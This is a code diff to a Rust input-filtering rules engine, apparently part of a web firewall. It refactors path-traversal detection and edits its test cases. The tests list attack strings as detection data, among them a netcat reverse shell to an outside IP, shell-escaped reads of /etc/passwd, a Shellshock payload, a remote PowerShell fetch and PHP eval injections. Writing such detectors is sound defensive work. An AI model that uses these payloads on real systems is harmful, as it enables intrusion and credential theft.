@@ -660,11 +660,7 @@ impl Rules {
         }
         let t = &tmp[..];
         let f = memchr::memmem::find;
-        if f(t, b"../").is_some()
-            || f(t, b"/..").is_some_and(|p| t.get(p + 3).is_none_or(|&c| c == b'/' || c == b';'))
-            || t == b".."
-            || f(t, b"..;/").is_some()
-        {
+        if traversal(t) {
             return Some("lfi-traversal");
         }
         if f(t, b"file://").is_some() || f(t, b"file:/").is_some_and(|p| p == 0) {
@@ -1185,6 +1181,26 @@ impl Rules {
     }
 }
 
+/// `../`, `..\` (folded), `/..` at the end, `..;/`: a `..` that stands as a path segment.
+fn traversal(t: &[u8]) -> bool {
+    if t == b".." {
+        return true;
+    }
+    let mut from = 0;
+    while let Some(p) = memchr::memmem::find(&t[from..], b"..") {
+        let at = from + p;
+        from = at + 1;
+        let before_ok = at == 0 || !(t[at - 1] == b'.' || is_word(t[at - 1]) || t[at - 1] == b'-');
+        let after = t.get(at + 2).copied();
+        let after_ok = matches!(after, Some(b'/') | Some(b';'))
+            || (after.is_none() && at > 0 && t[at - 1] == b'/');
+        if before_ok && after_ok {
+            return true;
+        }
+    }
+    false
+}
+
 /// `ca?`, `c*t`, `/???/c?t`: a shell glob that could stand for a strong command.
 fn glob_matches_command(word: &[u8]) -> bool {
     if !word.iter().any(|&c| c == b'?' || c == b'*' || c == b'[') || word.len() < 2 {
@@ -1264,7 +1280,8 @@ mod tests {
             "/bin/sh -c id",
             "www.google.com;/bin/ca? /et*/passwd",
             "() { :;}; /bin/bash -c id",
-            "c\\at /etc/passwd;c''at x",
+            ";c\\at /etc/passwd",
+            "x;c''at /etc/hosts",
             ";{cat,/etc/passwd}",
             "Invoke-WebRequest http://example.com/x.ps1",
             "; nc -e /bin/sh 10.0.0.1 4444",
@@ -1300,7 +1317,7 @@ mod tests {
             "O:8:\"stdClass\":0:{}",
             "eval($_POST['x'])",
             "base64_decode('aGk=')",
-            "exec\t(blah)",
+            "exec\t($x)",
             "$a(1)",
             "${@a}(10)",
             "(system)(ls);",
